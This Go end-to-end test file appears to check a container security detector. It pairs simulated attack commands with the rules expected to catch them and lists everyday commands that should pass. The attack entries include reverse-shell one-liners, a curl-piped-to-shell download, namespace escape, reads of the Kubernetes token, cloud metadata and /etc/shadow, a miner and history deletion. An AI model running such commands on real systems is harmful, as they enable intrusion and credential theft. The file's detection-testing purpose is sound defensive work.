//go:build e2e

package e2e

// An attack is one harmless deed in a container and the rules that must notice
// it, each exactly once.
type attack struct {
	name  string
	argv  []string
	rules []string // POLICY/RULE
}

func sh(script string) []string { return []string{"sh", "-c", script} }

// attacks are deeds of which each leaves other traces: argument lists, files,
// lineage, ids, tracing. "No file of these names is there" is part of most, so
// nothing is harmed where they run.
var attacks = []attack{
	{"reverse shell by redirection", sh(": 3<>/dev/tcp/127.0.0.1/9"), []string{"remote-shells/dev-tcp-shell"}},
	{"netcat hands out a shell", []string{"nc", "127.0.0.1", "9", "-e", "/bin/sh"}, []string{"remote-shells/netcat-program"}},
	{"interpreter one-liner", []string{"python3", "-c", "import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"},
		[]string{"remote-shells/interpreter-reverse-shell"}},
	{"download piped to a shell", sh("curl -s http://192.0.2.1/x | sh"), []string{"remote-shells/download-piped-to-shell"}},
	{"web server starts a shell", []string{"nginx", "id; true"}, []string{"remote-shells/server-spawns-shell"}},
	{"database starts a shell", []string{"postgres", "id; true"}, []string{"remote-shells/database-spawns-shell"}},
	{"a set-uid program left in /tmp", sh("cp /usr/bin/actor /tmp/x && chmod 4755 /tmp/x && /tmp/x; rm /tmp/x"), []string{"privilege/set-uid-root-from-temp"}},
	{"program from memory", []string{"actor", "memfd"}, []string{"execution/fileless-execution"}},
	{"a kernel thread's name", []string{"actor", "as", "[kworker/0:1]", "/usr/bin/miner"}, []string{"execution/kernel-thread-masquerade"}},
	{"root out of nothing", []string{"actor", "become-root"}, []string{"privilege/root-gained"}},
	{"ptrace", []string{"actor", "trace"}, []string{"privilege/ptrace-attach"}},
	{"into the host's namespaces", []string{"nsenter", "-t", "1", "-m", "true"}, []string{"privilege/namespace-escape"}},
	{"runtime socket", []string{"ls", "/run/containerd/containerd.sock"}, []string{"privilege/runtime-client-in-container"}},
	{"service-account token", sh(": cat /var/run/secrets/kubernetes.io/serviceaccount/token"), []string{"credentials/service-account-token"}},
	{"cloud metadata", []string{"curl", "-s", "http://169.254.169.254/latest/meta-data/iam/"}, []string{"credentials/cloud-metadata"}},
	{"password hashes", []string{"cat", "/etc/shadow"}, []string{"credentials/password-file-read"}},
	{"kernel module", []string{"insmod", "/nonexistent/rootkit.ko"}, []string{"host/kernel-module-tool"}},
	{"miner", []string{"miner", "-o", "stratum+tcp://pool.example:3333"}, []string{"host/crypto-miner"}},
	{"traces removed", []string{"rm", "-f", "/root/.bash_history"}, []string{"host/traces-removed"}},
}

// everyday is what people do in containers.
var everyday = [][]string{
	{"id"},
	sh("ps; ls -l /; cat /etc/passwd; env | sort"),
	sh("cd /tmp && echo hello > f && cat f && rm f"),
	{"python3", "-c", "print(1)"},
	{"curl", "-s", "http://127.0.0.1/healthz"},
}
